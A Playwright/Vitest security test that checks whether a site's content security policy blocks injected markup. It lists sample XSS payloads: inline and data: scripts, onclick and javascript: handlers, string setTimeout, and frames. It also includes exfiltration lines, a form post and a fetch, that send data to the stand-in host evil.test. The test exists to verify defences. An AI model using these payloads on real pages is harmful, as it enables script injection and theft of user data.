import type { Page } from 'playwright-core'
import { expect, it } from 'vitest'
import { refusedByPolicy, useBrowser } from '../support/browser.ts'

const { visit } = useBrowser()

/** What an attacker with markup in a page would try, one after the other; every success would leave `planted` behind. */
const attacks: Record<string, (page: Page) => Promise<unknown>> = {
  'an inline script': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.planted = true'
      document.body.append(script)
    }),
  'a script of another host': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://evil.test/planted.js'
      document.body.append(script)
    }),
  'a script as data': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'data:text/javascript,window.planted=true'
      document.body.append(script)
    }),
  'an event handler in markup': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<button onclick="window.planted = true" id="trap">x</button>',
      )
      document.querySelector<HTMLElement>('#trap')?.click()
    }),
  'a javascript: address': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<a href="javascript:window.planted=true" id="lure">x</a>',
      )
      document.querySelector<HTMLElement>('#lure')?.click()
    }),
  'text as code': (page) => page.evaluate(() => setTimeout('window.planted = true')),
  'a frame': (page) =>
    page.evaluate(() => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.test/'
      document.body.append(frame)
    }),
  'a form that sends elsewhere': (page) =>
    page.evaluate(() => {
      const form = document.createElement('form')
      form.action = 'https://evil.test/steal'
      document.body.append(form)
      form.submit()
    }),
  'a call to another host': (page) =>
    page.evaluate(() => fetch('https://evil.test/steal?what=secret').catch(() => undefined)),
}

it('the browser refuses whatever markup that got into a page tries', async () => {
  const { page, takeComplaints } = await visit('/home')
  const requests: string[] = []
  // Only what the policy allows gets here.
  await page.route('https://evil.test/**', (route) => {
    requests.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: 'window.planted = true' })
  })
  for (const [name, attack] of Object.entries(attacks)) {
    const complaints: string[] = []
    const isRefused = () => {
      complaints.push(...takeComplaints())
      return complaints.some((text) => refusedByPolicy.test(text))
    }
    await attack(page)
    await expect.poll(isRefused, { message: name }).toBe(true)
    expect([name, await page.evaluate(() => 'planted' in window), requests]).toEqual([name, false, []])
    expect(new URL(page.url()).pathname).toBe('/home')
    // Every refusal it writes about is of the policy.
    const others = [...complaints, ...takeComplaints()].filter((text) => !refusedByPolicy.test(text))
    expect([name, ...others]).toEqual([name])
  }
})
